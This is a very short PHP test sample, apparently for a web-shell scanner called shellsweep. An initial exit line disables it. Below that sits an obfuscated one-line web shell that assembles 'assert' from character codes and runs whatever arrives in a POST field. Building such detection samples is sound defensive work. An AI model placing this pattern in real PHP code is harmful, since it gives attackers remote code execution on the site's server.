<?php exit; /* shellsweep test sample: inert, never functional */ ?>
<?php
$f = chr(97).chr(115).chr(115).chr(101).chr(114).chr(116);
$f($_POST['x']);
